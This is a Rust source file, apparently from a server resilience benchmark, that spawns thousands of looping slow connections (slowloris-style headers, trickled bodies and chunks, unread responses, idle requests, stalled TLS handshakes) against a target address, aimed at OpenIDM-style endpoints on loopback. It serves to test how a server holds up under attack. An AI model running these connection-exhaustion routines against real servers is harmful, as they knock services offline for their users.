//! Hostile connections, made by a process of their own (`--attack`), so that they and the client that is measured do not wait for each other.
//!
//! Easiest to get wrong: an attacker that is given up on. Whatever the server ends is begun again a second later, and the process ends with its
//! standard input.

use std::net::{IpAddr, Ipv4Addr, SocketAddr};
use std::str::FromStr;
use std::time::Duration;

use rustix::process::{Resource, Rlimit, getrlimit, nice, setrlimit};
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::{TcpSocket, TcpStream};

use crate::Failure;
use crate::client::VISITOR;

/// The network that attacks; connections come from all of its addresses.
const FROM: [u8; 3] = [127, 0, 9];
/// How often something more is sent, and how long after its end a connection is begun again.
const PAUSE: Duration = Duration::from_secs(1);
/// A connection that reads nothing does not learn of its end; it begins again after this.
const UNREAD: Duration = Duration::from_secs(40);
/// Connections that are begun before the next ones are.
const AT_ONCE: usize = 200;

/// What hostile connections do.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Shape {
    /// A head that grows by a byte a second.
    Head,
    /// A body that does.
    Body,
    /// A body in chunks of a byte.
    Chunks,
    /// A large answer that nobody reads.
    Unread,
    /// A request, and then nothing.
    Idle,
    /// The beginning of a TLS handshake.
    Handshake,
}

impl Shape {
    /// Every shape, and its name.
    pub(crate) const ALL: [(Self, &'static str); 6] = [
        (Self::Head, "head"),
        (Self::Body, "body"),
        (Self::Chunks, "chunks"),
        (Self::Unread, "unread"),
        (Self::Idle, "idle"),
        (Self::Handshake, "handshake"),
    ];

    /// Its name.
    pub(crate) fn name(self) -> &'static str {
        Self::ALL.iter().find(|(shape, _)| *shape == self).map_or("", |(_, name)| name)
    }

    /// What is sent first.
    fn first(self) -> String {
        let post = format!(
            "POST /openidm/selfservice/reset?_action=submitRequirements HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n{VISITOR}"
        );
        match self {
            Self::Head => format!("GET /openidm/info/ping HTTP/1.1\r\nHost: x\r\n{VISITOR}X-Slow: "),
            Self::Body => format!("{post}Content-Length: 100000\r\n\r\n{{"),
            Self::Chunks => format!("{post}Transfer-Encoding: chunked\r\n\r\n1\r\n{{\r\n"),
            Self::Unread => format!("GET /{LARGE} HTTP/1.1\r\nHost: x\r\n\r\n"),
            Self::Idle => format!("GET /openidm/info/ping HTTP/1.1\r\nHost: x\r\n{VISITOR}\r\n"),
            Self::Handshake => "\u{16}\u{3}\u{1}\u{2}\u{0}\u{1}\u{0}\u{1}".to_owned(),
        }
    }

    /// What follows every second.
    fn more(self) -> &'static str {
        match self {
            Self::Head => "x",
            Self::Body | Self::Handshake => " ",
            Self::Chunks => "1\r\n \r\n",
            Self::Unread | Self::Idle => "",
        }
    }
}

/// The large file of the project that is attacked.
pub(crate) const LARGE: &str = "large.js";

/// What one process of attackers does: `SHAPE,ADDRESS,CONNECTIONS`.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) struct Attack {
    /// In which way.
    pub(crate) shape: Shape,
    /// Whom.
    pub(crate) target: SocketAddr,
    /// With how many connections.
    pub(crate) connections: usize,
}

impl std::fmt::Display for Attack {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "{},{},{}", self.shape.name(), self.target, self.connections)
    }
}

impl FromStr for Attack {
    type Err = String;

    fn from_str(text: &str) -> Result<Self, String> {
        let parts: Vec<&str> = text.split(',').collect();
        let [shape, target, connections] = parts[..] else { return Err(format!("'{text}' is not SHAPE,ADDRESS,CONNECTIONS")) };
        let shape = Shape::ALL.iter().find(|(_, name)| *name == shape).map(|(shape, _)| *shape);
        Ok(Self {
            shape: shape.ok_or("there is no such shape")?,
            target: target.parse().map_err(|error| format!("{target}: {error}"))?,
            connections: connections.parse().map_err(|error| format!("{connections}: {error}"))?,
        })
    }
}

impl Attack {
    /// Attacks until standard input ends. Says `attacking` once every connection was begun.
    ///
    /// # Errors
    /// When there are too few open files.
    pub(crate) async fn run(self) -> Result<(), Failure> {
        let maximum = getrlimit(Resource::Nofile).maximum;
        setrlimit(Resource::Nofile, Rlimit { current: maximum, maximum })?;
        // The client that is measured has the load's core to itself when it wants it: it sits elsewhere, and waits for the server alone.
        nice(10)?;
        let first = self.shape.first();
        for begun in 0..self.connections {
            let host = u8::try_from(begun % 250 + 1)?;
            let own = SocketAddr::new(IpAddr::V4(Ipv4Addr::new(FROM[0], FROM[1], FROM[2], host)), 0);
            let first = first.clone();
            tokio::task::spawn_local(async move {
                loop {
                    // However it ended: once more.
                    let _ = self.hold(own, first.as_bytes()).await;
                    tokio::time::sleep(PAUSE).await;
                }
            });
            if begun % AT_ONCE == AT_ONCE - 1 {
                tokio::time::sleep(Duration::from_millis(50)).await;
            }
        }
        println!("attacking");
        let mut input = Vec::new();
        tokio::task::spawn_blocking(move || std::io::Read::read_to_end(&mut std::io::stdin(), &mut input)).await??;
        Ok(())
    }

    async fn hold(self, own: SocketAddr, first: &[u8]) -> std::io::Result<()> {
        let socket = TcpSocket::new_v4()?;
        if self.shape == Shape::Unread {
            // Little is taken off the wire by the system of who reads nothing.
            socket.set_recv_buffer_size(4096)?;
        }
        socket.bind(own)?;
        let mut stream: TcpStream = socket.connect(self.target).await?;
        stream.write_all(first).await?;
        if self.shape == Shape::Unread {
            tokio::time::sleep(UNREAD).await;
            return Ok(());
        }
        let mut piece = [0; 1024];
        loop {
            tokio::select! {
                read = stream.read(&mut piece) => if read? == 0 { return Ok(()) },
                () = tokio::time::sleep(PAUSE) => stream.write_all(self.shape.more().as_bytes()).await?,
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn an_attack_is_read_as_it_is_written() {
        for (shape, _) in Shape::ALL {
            let attack = Attack { shape, target: "127.0.0.1:8080".parse().unwrap(), connections: 10_000 };
            assert_eq!(attack.to_string().parse(), Ok(attack));
        }
        assert!("nonsense".parse::<Attack>().is_err() && "head,x,1".parse::<Attack>().is_err());
    }
}
